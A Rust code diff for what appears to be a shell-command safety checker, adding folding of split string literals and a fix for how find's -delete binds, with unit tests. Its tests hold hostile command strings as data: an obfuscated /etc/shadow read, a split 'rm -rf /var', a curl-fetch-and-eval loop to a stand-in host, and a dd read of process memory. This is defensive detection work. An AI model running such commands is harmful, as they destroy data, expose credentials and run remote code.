@@ -696,6 +696,67 @@ pub fn interpreter_code(seg: &Segment) -> Vec<String> {
     out
 }
 
+/// `'ab' + 'cd'`, `"ab" . "cd"`, `"ab" .. "cd"` and awk's `"ab" "cd"`:
+/// two literals of the same quote joined by an operator or juxtaposed,
+/// folded into one (`'abcd'`). None when there is nothing to fold.
+pub(crate) fn fold_concatenations(code: &str) -> Option<String> {
+    if code.len() > MAX_FOLD_CODE || !(code.contains('\'') || code.contains('"')) {
+        return None;
+    }
+    let b = code.as_bytes();
+    let mut out = String::with_capacity(code.len());
+    let mut folded = false;
+    let mut i = 0;
+    let mut start = 0;
+    while i < b.len() {
+        let q = b[i];
+        if q != b'\'' && q != b'"' {
+            i += 1;
+            continue;
+        }
+        // A literal from i: find its closing quote (backslash escapes).
+        let mut j = i + 1;
+        while j < b.len() && b[j] != q {
+            j += if b[j] == b'\\' { 2 } else { 1 };
+        }
+        if j >= b.len() {
+            break;
+        }
+        // After it: blanks, one joining operator or none, blanks, and the
+        // same quote opening the next literal.
+        let mut k = j + 1;
+        while k < b.len() && b[k] == b' ' {
+            k += 1;
+        }
+        let op_start = k;
+        while k < b.len() && (b[k] == b'+' || b[k] == b'.') && k - op_start < 2 {
+            k += 1;
+        }
+        while k < b.len() && b[k] == b' ' {
+            k += 1;
+        }
+        if k < b.len() && b[k] == q && k > j + 1 {
+            // Drop from the closing quote through the next opening one.
+            out.push_str(&code[start..j]);
+            start = k + 1;
+            folded = true;
+            // The joined literal goes on: scan it from its opening quote,
+            // so a chain (`'a'+'b'+'c'`) folds whole.
+            i = k;
+            continue;
+        }
+        i = j + 1;
+    }
+    if !folded {
+        return None;
+    }
+    out.push_str(&code[start..]);
+    Some(out)
+}
+
+/// Longest program `fold_concatenations` looks at.
+const MAX_FOLD_CODE: usize = 16 << 10;
+
 fn is_awk(cmd: &str) -> bool {
     matches!(cmd, "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk")
 }
@@ -1263,7 +1324,14 @@ pub fn find_selects_disposable(seg: &Segment) -> bool {
         "orig",
         "rej",
     ];
-    seg.args.windows(2).any(|w| {
+    // `-name '*.tmp' -o -name '.*' -delete`: without parentheses, -delete
+    // belongs to the last alternative only, and that is what it removes.
+    let grouped = seg.args.iter().any(|a| a.contains('(') || a.contains(')'));
+    let args = match seg.args.iter().rposition(|a| a == "-o" || a == "-or") {
+        Some(i) if !grouped => &seg.args[i + 1..],
+        _ => &seg.args[..],
+    };
+    args.windows(2).any(|w| {
         matches!(w[0].as_str(), "-name" | "-iname")
             && w[1].rsplit_once('.').is_some_and(|(stem, ext)| {
                 stem.ends_with('*') && DISPOSABLE.contains(&ext.to_ascii_lowercase().as_str())
@@ -1740,15 +1808,24 @@ impl<'a> Lexer<'a> {
                 r.target = g;
             }
         }
-        let (cmd_path, args) = if rest.is_empty() {
+        let (cmd_path, mut args) = if rest.is_empty() {
             (String::new(), Vec::new())
         } else {
             let mut it = rest.into_iter();
             let c = it.next().unwrap_or_default();
-            (c, it.collect())
+            (c, it.collect::<Vec<String>>())
         };
         // A shell named through an unknown variable is still a shell.
         let mut cmd = basename(&cmd_path);
+        // Literals split and joined again in a program's code
+        // (`open('/etc/sh'+'adow')`, awk's `"r" "m -rf /"`) are read joined.
+        if is_interpreter(&cmd) || is_awk(&cmd) {
+            for a in args.iter_mut() {
+                if let Some(f) = fold_concatenations(a) {
+                    *a = f;
+                }
+            }
+        }
         if cmd == "$shell" || cmd_path == "${SHELL}" {
             cmd = "sh".to_string();
         }
@@ -2500,6 +2577,49 @@ fn unquote(part: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn split_literals_are_read_joined() {
+        let f = |c: &str| fold_concatenations(c);
+        assert_eq!(
+            f("open('/etc/sh'+'adow')").as_deref(),
+            Some("open('/etc/shadow')")
+        );
+        assert_eq!(
+            f("system(\"r\" \"m -rf /\" \"var\")").as_deref(),
+            Some("system(\"rm -rf /var\")")
+        );
+        assert_eq!(f("'a' + 'b' + 'c'").as_deref(), Some("'abc'"));
+        assert_eq!(f("print \"a\" . \"b\"").as_deref(), Some("print \"ab\""));
+        // Arguments, and a variable between, are not joined.
+        assert_eq!(f("print('a', 'b')"), None);
+        assert_eq!(f("'a' + x + 'b'"), None);
+    }
+
+    #[test]
+    fn find_delete_binds_to_the_last_alternative() {
+        let s = parse("find ~ -name '*.tmp' -o -name '.*' -delete");
+        assert!(!find_selects_disposable(&s.segments[0]));
+        let s = parse("find ~ -name '.*' -o -name '*.tmp' -delete");
+        assert!(find_selects_disposable(&s.segments[0]));
+        let s = parse("find ~ \\( -name '*.log' -o -name '*.tmp' \\) -delete");
+        assert!(find_selects_disposable(&s.segments[0]));
+    }
+
+    #[test]
+    fn keywords_then_assignments() {
+        let s = parse("while :; do c=$(curl -s http://x.example/c); eval \"$c\"; done");
+        assert!(s
+            .segments
+            .iter()
+            .any(|g| g.cmd == "eval" && g.args.iter().any(|a| a.contains("curl"))));
+        // IFS for one command is not kept for later words.
+        let s = parse("while IFS=- read a b; do dd if=/proc/$p/mem; done");
+        assert!(s
+            .segments
+            .iter()
+            .any(|g| g.cmd == "dd" && g.args.first().is_some_and(|a| a == "if=/proc/$p/mem")));
+    }
 
     fn cmds(src: &str) -> Vec<String> {
         parse(src).segments.iter().map(|s| s.text.clone()).collect()
